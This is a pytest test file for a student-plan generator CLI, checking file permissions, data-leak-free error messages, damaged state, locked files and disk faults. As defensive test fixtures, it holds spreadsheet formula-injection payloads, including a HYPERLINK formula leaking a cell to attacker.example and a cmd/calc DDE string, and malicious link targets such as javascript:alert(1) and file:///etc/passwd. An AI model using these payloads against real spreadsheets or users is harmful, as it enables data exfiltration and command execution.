"""Children's records at rest and under faults (issue 25), end to end through the CLI.

File modes under the user's umask, formula payloads in the manifest, cell values kept out of every
message, damaged state, plans open in Word, leftovers, names that collide with plangen's own files,
links in the overview, and LibreOffice's profile.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from generator.cli import cli
from generator.output.overview import HTML_NAME, STATE_FILE, XLSX_NAME
from generator.roster.naming import OWN_NAMES
from tests.helpers import convert_with_libreoffice, make_template, soffice, write_workbook, write_xlsx

MAPPING = """key: id
display_name: "{{ first }} {{ last }}"
fields:
  id: Student ID
  first: First
  last: Last
  note: Note
output: {folder: "{{ last }}, {{ first }}", filename: Plan}
"""
HEADER = ["Student ID", "First", "Last", "Note"]
SECRET = "ZZNOTE1001Q"  # a cell value that must never appear in a message


def project(tmp: Path, rows: list[list], template: list[str] | None = None, mapping: str = MAPPING) -> list[str]:
    (tmp / "m.yaml").write_text(mapping, encoding="utf-8")
    write_xlsx(tmp / "c.xlsx", [HEADER, *rows], sheet="Caseload")
    make_template(tmp / "t.docx", template or ["{{ first }} {{ last }}", "{{ note }}"])
    return ["-m", str(tmp / "m.yaml"), "-s", str(tmp / "c.xlsx"), "-t", str(tmp / "t.docx")]


def students(count: int, note: str = "x") -> list[list]:
    return [[1000 + n, f"Kid{n}", "Example", note] for n in range(count)]


def generate(args: list[str], out: Path, *extra: str):
    result = CliRunner().invoke(cli, ["generate", *args, "-o", str(out), *extra])
    assert "Traceback" not in result.output and "internal error" not in result.output, result.output
    return result


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


@pytest.fixture
def umask():
    old = os.umask(0o022)
    os.umask(old)
    yield os.umask
    os.umask(old)


@pytest.mark.parametrize("mask", [0o077, 0o022])
def test_everything_written_honours_the_umask_and_state_is_owner_only(tmp_path: Path, umask, mask: int):
    args = project(tmp_path, students(3))
    umask(mask)
    out = tmp_path / "out"
    assert generate(args, out).exit_code == 0
    state = out / ".plangen"
    for path in out.rglob("*"):
        if path.is_relative_to(state):
            assert mode(path) == (0o700 if path.is_dir() else 0o600) & ~mask, path
        else:
            assert mode(path) == (0o777 if path.is_dir() else 0o666) & ~mask, path
    assert mode(state) == 0o700 & ~mask
    assert {p.name for p in state.iterdir()} >= {"lock", "written.jsonl", "overview.json"}


PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A2,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\tTAB",
    "\rCR",
]


def test_formula_payloads_in_the_manifest_are_text_in_calc_and_read_the_same(tmp_path: Path):
    rows = [[1000 + n, payload, "Example", "x"] for n, payload in enumerate(PAYLOADS)]
    mapping = MAPPING.replace('output: {folder: "{{ last }}, {{ first }}"', 'output: {folder: "{{ id }}"')
    args = project(tmp_path, rows, mapping=mapping)
    book = openpyxl.load_workbook(tmp_path / "c.xlsx")
    for cell in book.active["B"][1:]:
        cell.data_type = "s"  # typed as text, as a person typing '=... in Excel keeps it
    book.save(tmp_path / "c.xlsx")
    out = tmp_path / "out"
    assert generate(args, out).exit_code == 0

    manifest = list(csv.DictReader(io.StringIO((out / "manifest.csv").read_text(encoding="utf-8-sig"))))
    names = [row["display_name"] for row in manifest]
    shown = [" ".join(f"{p} Example".split()) for p in PAYLOADS]  # a name's leading tab or CR is dropped
    assert sorted(names) == sorted(n if n in ("TAB Example", "CR Example") else "'" + n for n in shown)
    assert all(row["key"].isdigit() and row["status"] == "created" for row in manifest)
    if soffice() is None:
        pytest.skip("LibreOffice is not installed")
    (converted,) = convert_with_libreoffice([out / "manifest.csv"], tmp_path / "calc", target="xlsx")
    if not converted.exists():
        pytest.skip("this LibreOffice has no Calc to open spreadsheets")
    sheet = openpyxl.load_workbook(converted).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells), [(c.value, c.data_type) for c in cells]
    assert sorted(c.value.lstrip("'") for c in cells) == sorted(" ".join(f"{p} Example".split()) for p in PAYLOADS)
    workbook = openpyxl.load_workbook(out / XLSX_NAME)  # the overview: the same names, as text cells
    shown = [row[0] for row in workbook.active.iter_rows(min_row=3)]
    assert all(c.data_type == "s" for c in shown)
    assert sorted(c.value for c in shown) == sorted(" ".join(f"{p} Example".split()) for p in PAYLOADS)


# Tags, computed fields and name patterns that fail on a student's value; none may print the value.
VALUE_FAILURES = {
    "tag indexing a dict by a cell": (["{{ {'Yes': 'with OTA'}[note] }}"], MAPPING, "note"),
    "tag indexing a list by a cell": (["{{ ['a', 'b'][note|int(7)] }}"], MAPPING, "note"),
    "attr filter named by a cell": (["{{ first|attr(note) }}"], MAPPING, "note"),
    "arithmetic on text": (["{{ note + 1 }}"], MAPPING, "note"),
    "format code against text": (["{{ '{:d}'.format(note) }}"], MAPPING, "note"),
    "index of a missing piece": (["{{ note.index('q') }}"], MAPPING, "note"),
    "computed field indexing by a cell": (
        None,
        MAPPING.replace("  note: Note\n", "  note: Note\n  ota: {value: \"{{ {'Yes': 'x'}[note] }}\"}\n"),
        "ota",
    ),
    "computed field with arithmetic on text": (
        None,
        MAPPING.replace("  note: Note\n", '  note: Note\n  twice: {value: "{{ note * note }}"}\n'),
        "twice",
    ),
    "folder pattern indexing by a cell": (
        None,
        MAPPING.replace('folder: "{{ last }}, {{ first }}"', "folder: \"{{ {'a': 1}[note] }}\""),
        "output",
    ),
}


@pytest.mark.parametrize("name", list(VALUE_FAILURES))
def test_no_message_of_a_failing_tag_or_field_shows_the_cell_value(tmp_path: Path, name: str):
    template, mapping, field = VALUE_FAILURES[name]
    args = project(tmp_path, [[1001, "Ana", "Ruiz", SECRET]], template, mapping)
    out = tmp_path / "out"
    runs = [generate(args, out), generate(args, out, "--skip-invalid"), CliRunner().invoke(cli, ["check", *args])]
    for number, result in enumerate(runs):
        assert SECRET not in result.output, f"{name}: the value leaked: {result.output}"
        assert "Traceback" not in result.output and "internal error" not in result.output, result.output
        if number < 2 or template is None:  # check renders no plan: a template's tag fails in generate only
            assert result.exit_code != 0, result.output
            assert field in result.output, result.output  # the field (or the pattern) is named
    if template is not None:  # the template's place is named: its paragraph, as the template shows it
        assert "document body, paragraph 1" in runs[0].output, runs[0].output
    manifest = out / "manifest.csv"
    assert not manifest.exists() or SECRET not in manifest.read_text(encoding="utf-8-sig")


def test_a_whole_column_merge_and_formatted_empty_rows_are_clipped_to_the_data(tmp_path: Path):
    args = project(tmp_path, [])
    rows = [HEADER, *students(3, note="shared note")]
    write_workbook(tmp_path / "c.xlsx", {"Caseload": rows}, merges=("D2:D1048576",))
    book = openpyxl.load_workbook(tmp_path / "c.xlsx")
    book.active.cell(row=1048576, column=2).fill = openpyxl.styles.PatternFill("solid", fgColor="FFFF00")
    book.active.cell(row=500000, column=1).number_format = "0.00"
    book.save(tmp_path / "c.xlsx")
    result = CliRunner().invoke(cli, ["check", *args])
    assert result.exit_code == 0, result.output
    assert len(result.output.splitlines()) < 15 and "3 student(s) ready, 0 with errors" in result.output
    assert generate(args, tmp_path / "out").exit_code == 0
    assert len(list((tmp_path / "out").glob("*/*.docx"))) == 3


def test_many_messages_of_one_kind_are_cut_to_twenty_and_a_count(tmp_path: Path):
    mapping = MAPPING.replace("  note: Note\n", "  note: {column: Note, type: date}\n")
    args = project(tmp_path, students(60, note="not a date"), mapping=mapping)
    for result in (CliRunner().invoke(cli, ["check", *args]), generate(args, tmp_path / "out")):
        assert result.exit_code == 2, result.output
        assert result.output.count("not a date") <= 21, result.output
        assert "... and 40 more like: " in result.output
        assert re.search(r"60 (with errors|student\(s\) have data errors)", result.output), result.output


def journal_lines(out: Path) -> list[str]:
    return (out / ".plangen" / "written.jsonl").read_text(encoding="utf-8").splitlines()


def test_a_damaged_journal_is_reported_by_line_and_no_plan_is_called_edited(tmp_path: Path):
    args = project(tmp_path, students(3))
    out = tmp_path / "out"
    assert generate(args, out).exit_code == 0
    lines = journal_lines(out)
    assert all(json.loads(line)["sum"] for line in lines)
    damaged = [lines[0][:25], '{"path": "x", "sha256": "' + "0" * 64 + '", "sum": "0000000000000000"}', lines[2]]
    (out / ".plangen" / "written.jsonl").write_text("\n".join(damaged), encoding="utf-8")  # cut, forged, last unended
    again = generate(args, out)
    assert again.exit_code == 0, again.output
    assert f"{out / '.plangen' / 'written.jsonl'}, line(s) 1, 2: damaged" in again.output
    assert "edited" not in again.output and "3 unchanged" in again.output
    assert all(json.loads(line)["sum"] for line in journal_lines(out))  # rewritten whole, damage gone
    # The sheet changes: with records intact every plan is plangen's to update.
    write_xlsx(tmp_path / "c.xlsx", [HEADER, *students(3, note="new")], sheet="Caseload")
    assert "3 updated" in generate(args, out).output


def test_a_lost_record_with_changed_data_keeps_the_plan_without_calling_it_edited(tmp_path: Path):
    args = project(tmp_path, students(2))
    out = tmp_path / "out"
    assert generate(args, out).exit_code == 0
    lines = journal_lines(out)
    (out / ".plangen" / "written.jsonl").write_text(lines[0][:-3] + "\n" + lines[1] + "\n", encoding="utf-8")
    write_xlsx(tmp_path / "c.xlsx", [HEADER, *students(2, note="new")], sheet="Caseload")
    result = generate(args, out)
    assert "line(s) 1: damaged" in result.output
    assert "1 updated" in result.output and "1 kept-edited" in result.output
    manifest = (out / "manifest.csv").read_text(encoding="utf-8-sig")
    assert "plangen's record of this plan was damaged" in manifest and "edited since plangen wrote it" not in manifest


def test_a_binary_journal_is_moved_aside_with_a_message_and_the_run_goes_on(tmp_path: Path):
    args = project(tmp_path, students(2))
    out = tmp_path / "out"
    assert generate(args, out).exit_code == 0
    (out / ".plangen" / "written.jsonl").write_bytes(os.urandom(2000) + b"\0\xff\xfe")
    result = generate(args, out)
    assert result.exit_code == 0, result.output
    assert "could not be read" in result.output and "moved to written.jsonl.damaged" in result.output
    assert "2 unchanged" in result.output
    assert len(list((out / ".plangen").glob("written.jsonl.damaged *"))) == 1
    assert generate(args, out).output.count("could not be read") == 0  # the next run is quiet


@pytest.mark.parametrize("lock", ["~$an.docx", "~$Plan.docx", ".~lock.Plan.docx#"])
def test_a_plan_open_in_word_or_libreoffice_is_not_replaced_and_is_retried(tmp_path: Path, lock: str):
    args = project(tmp_path, students(2))
    out = tmp_path / "out"
    assert generate(args, out).exit_code == 0
    opened = out / "Example, Kid0"
    before = (opened / "Plan.docx").read_bytes()
    (opened / lock).write_bytes(b"owner")
    write_xlsx(tmp_path / "c.xlsx", [HEADER, *students(2, note="changed")], sheet="Caseload")
    result = generate(args, out)
    assert result.exit_code == 1, result.output
    assert "open in another program" in result.output and lock in result.output
    assert (opened / "Plan.docx").read_bytes() == before and "1 updated" in result.output
    (opened / lock).unlink()
    retried = generate(args, out)
    assert retried.exit_code == 0 and "1 updated, 1 unchanged" in retried.output


def test_stale_temporary_files_of_plangen_are_removed_at_start_and_nothing_else(tmp_path: Path):
    args = project(tmp_path, students(1))
    out = tmp_path / "out"
    assert generate(args, out).exit_code == 0
    folder = out / "Example, Kid0"
    stale = [
        folder / ".Plan.docx.a1b2c3d4.tmp",
        out / ".manifest.csv.zz_9x8y7.tmp",
        out / ".plangen" / ".written.jsonl.abcdefgh.tmp",
    ]
    kept = [folder / "my notes.tmp", tmp_path / ".Plan.docx.a1b2c3d4.tmp"]
    for path in stale + kept:
        path.write_bytes(b"old copy")
    result = generate(args, out)
    assert "Removed 3 temporary file(s)" in result.output
    assert not any(p.exists() for p in stale) and all(p.exists() for p in kept)


def test_student_folders_named_like_plangens_own_files_are_renamed(tmp_path: Path):
    mapping = MAPPING.replace('folder: "{{ last }}, {{ first }}"', 'folder: "{{ first }}"')
    rows = [[1001, "manifest.csv", "A", "x"], [1002, "CASELOAD.xlsx", "B", "x"], [1003, "caseload.html", "C", "x"]]
    args = project(tmp_path, rows, mapping=mapping)
    out = tmp_path / "out"
    result = generate(args, out)
    assert result.exit_code == 0, result.output
    assert (out / "manifest.csv").is_file() and (out / XLSX_NAME).is_file() and (out / HTML_NAME).is_file()
    assert sorted(p.parent.name for p in out.glob("*/Plan.docx")) == [
        "CASELOAD.xlsx (1002)",
        "caseload.html (1003)",
        "manifest.csv (1001)",
    ]
    assert {"manifest.csv", XLSX_NAME, HTML_NAME, ".plangen"} <= OWN_NAMES


def test_a_plangen_folder_that_is_a_link_or_a_file_is_refused(tmp_path: Path):
    args = project(tmp_path, students(1))
    out = tmp_path / "out"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out.mkdir()
    (out / ".plangen").symlink_to(elsewhere)
    result = generate(args, out)
    assert result.exit_code == 2 and f"{out / '.plangen'} is a link, not a folder" in result.output
    assert list(elsewhere.iterdir()) == [] and not list(out.glob("*/*.docx"))
    (out / ".plangen").unlink()
    (out / ".plangen").write_text("x")
    result = generate(args, out)
    assert result.exit_code == 2 and "is a file, not a folder" in result.output


def test_overview_links_point_only_at_plans_inside_out_or_at_google(tmp_path: Path):
    args = project(tmp_path, students(6))
    out = tmp_path / "out"
    assert generate(args, out).exit_code == 0
    state = json.loads((out / STATE_FILE).read_text(encoding="utf-8"))
    rows = state["mappings"]["m"]["rows"] if "mappings" in state else state
    bad = ["javascript:alert(1)", "file:///etc/passwd", "\\\\server\\share\\Plan.docx", "../outside/Plan.docx"]
    good = "https://docs.google.com/document/d/abc/edit"
    for key, plan in zip(sorted(rows), [*bad, good], strict=False):
        rows[key]["plan"] = plan
    (out / STATE_FILE).write_text(json.dumps(state), encoding="utf-8")
    assert generate(args, out, "--student", "1005").exit_code == 0  # the others keep their remembered plans
    sheet = openpyxl.load_workbook(out / XLSX_NAME).active
    targets = [cell.hyperlink.target for row in sheet.iter_rows() for cell in row if cell.hyperlink]
    assert good in targets and len(targets) == 2, targets  # Google's, and the plan written in this run
    assert not any(t.startswith(("javascript", "file", "\\\\", "..")) or ":" in t and t != good for t in targets)
    html = (out / HTML_NAME).read_text(encoding="utf-8")
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert good in hrefs and len(hrefs) == 2, hrefs
    assert all(h == good or h.endswith(".docx") and not h.startswith(("..", "/", "file")) for h in hrefs)


@pytest.mark.skipif(soffice() is None, reason="LibreOffice is not installed")
def test_libreoffice_runs_with_a_private_profile_outside_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    args = project(tmp_path, students(1))
    out = tmp_path / "out"
    result = generate(args, out, "--pdf")
    assert result.exit_code == 0, result.output
    assert (out / "Example, Kid0" / "Plan.pdf").is_file()
    assert list(home.iterdir()) == []  # no ~/.config/libreoffice, no ~/.cache
    assert not (out / ".plangen" / "libreoffice-profile").exists()


def valid_docx(path: Path) -> bool:
    try:
        with zipfile.ZipFile(path) as archive:
            return archive.testzip() is None and "word/document.xml" in archive.namelist()
    except zipfile.BadZipFile:
        return False


def can_mount() -> bool:
    return sys.platform == "linux" and os.geteuid() == 0 and shutil.which("mount") is not None


@pytest.fixture
def small_disk(tmp_path: Path):
    """A 2 MB tmpfs (root only): filled by plans, then made larger or read-only as a test needs."""
    folder = tmp_path / "disk"
    folder.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", str(folder)], capture_output=True)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.decode(errors='replace').strip()}")

    def remount(options: str) -> None:
        subprocess.run(["mount", "-o", f"remount,{options}", str(folder)], check=True, capture_output=True)

    yield folder, remount
    subprocess.run(["umount", "-l", str(folder)], capture_output=True)


def everything_whole(out: Path) -> None:
    """No temporary file left anywhere, and every plan a whole .docx (never a half-written one)."""
    assert not [p for p in out.rglob("*.tmp")], list(out.rglob("*.tmp"))
    for plan in out.rglob("*.docx"):
        with zipfile.ZipFile(plan) as archive:
            assert archive.testzip() is None and "word/document.xml" in archive.namelist()


@pytest.mark.skipif(not can_mount(), reason="mounting a small tmpfs needs root on Linux")
def test_a_full_disk_is_said_plainly_leaves_nothing_half_written_and_the_next_run_resumes(tmp_path: Path, small_disk):
    disk, remount = small_disk
    big_note = os.urandom(30_000).hex()  # incompressible: each plan ~60 KB, so ~30 fit in 2 MB
    args = project(tmp_path, students(60, note=big_note))
    out = disk / "out"
    first = generate(args, out)
    assert first.exit_code == 1, first.output
    assert "the disk is full" in first.output and str(out) in first.output
    assert "free some space and run again" in first.output
    written = {p.relative_to(out) for p in out.glob("*/Plan.docx")}
    assert 0 < len(written) < 60
    everything_whole(out)
    assert len([line for line in first.output.splitlines() if "the disk is full" in line]) <= 25  # not 60 times
    remount("size=20m")
    second = generate(args, out)
    assert second.exit_code == 0, second.output
    assert f"{len(written)} unchanged" in second.output and f"{60 - len(written)} created" in second.output
    assert "edited" not in second.output
    everything_whole(out)
    assert (out / "manifest.csv").is_file() and (out / XLSX_NAME).is_file() and (out / HTML_NAME).is_file()


@pytest.mark.skipif(not can_mount(), reason="mounting a small tmpfs needs root on Linux")
def test_a_read_only_output_folder_is_refused_naming_it_before_anything_is_written(tmp_path: Path, small_disk):
    disk, remount = small_disk
    args = project(tmp_path, students(3))
    out = disk / "out"
    assert generate(args, out).exit_code == 0
    write_xlsx(tmp_path / "c.xlsx", [HEADER, *students(3, note="changed")], sheet="Caseload")
    remount("ro")
    result = generate(args, out)
    assert result.exit_code == 2, result.output
    assert f"cannot use the output folder {out}: the disk is read-only" in result.output
    remount("rw")
    assert "3 updated" in generate(args, out).output


@pytest.mark.skipif(not can_mount(), reason="mounting a small tmpfs needs root on Linux")
def test_a_disk_that_fills_after_the_plans_fails_the_overview_and_pdf_stages_plainly(tmp_path: Path, small_disk):
    disk, remount = small_disk
    args = project(tmp_path, students(2))
    out = disk / "out"
    assert generate(args, out).exit_code == 0
    filler = disk / "filler"
    with open(filler, "wb") as handle:  # the rest of the disk, taken by something else
        with contextlib.suppress(OSError):
            while True:
                handle.write(b"\0" * 65536)
                handle.flush()
    write_xlsx(tmp_path / "c.xlsx", [HEADER, *students(3)], sheet="Caseload")  # a third student: a new plan
    result = generate(args, out)
    assert result.exit_code == 1, result.output
    assert "the disk is full" in result.output and "Traceback" not in result.output
    everything_whole(out)
    filler.unlink()
    again = generate(args, out)
    assert again.exit_code == 0 and "1 created, 2 unchanged" in again.output
    overview = openpyxl.load_workbook(out / XLSX_NAME).active
    assert overview.max_row == 5  # title, header and the three students


def test_a_failure_every_student_shares_is_printed_twenty_times_then_counted(tmp_path: Path):
    args = project(tmp_path, students(45), ["{{ note + 1 }}"])
    result = generate(args, tmp_path / "out")
    assert result.exit_code == 1, result.output
    assert result.output.count("TypeError: can only concatenate") == 21  # twenty, and the count's line
    assert "... and 25 more student(s) like: failed: template t.docx" in result.output
    manifest = (tmp_path / "out" / "manifest.csv").read_text(encoding="utf-8-sig")
    assert manifest.count(",failed,") == 45


@pytest.mark.skipif(not can_mount() or shutil.which("chattr") is None, reason="chattr +i needs root on Linux")
def test_a_folder_plangen_may_not_write_is_named_with_permission_denied_and_retried(tmp_path: Path):
    args = project(tmp_path, students(2))
    out = tmp_path / "out"
    assert generate(args, out).exit_code == 0
    write_xlsx(tmp_path / "c.xlsx", [HEADER, *students(2, note="changed")], sheet="Caseload")
    locked = out / "Example, Kid0"
    if subprocess.run(["chattr", "+i", str(locked)], capture_output=True).returncode != 0:
        pytest.skip("this file system has no immutable flag")
    try:
        one = generate(args, out)  # even root may not write into an immutable folder
        subprocess.run(["chattr", "+i", str(out)], check=True)
        whole = generate(args, out)
    finally:
        subprocess.run(["chattr", "-i", str(locked), str(out)], capture_output=True)
    assert one.exit_code == 1 and "1 updated, 1 failed" in one.output, one.output
    assert f"permission denied ({locked})" in one.output
    assert whole.exit_code == 2 and f"{out}: permission denied; nothing was written" in whole.output, whole.output
    everything_whole(out)
    assert "1 updated, 1 unchanged" in generate(args, out).output
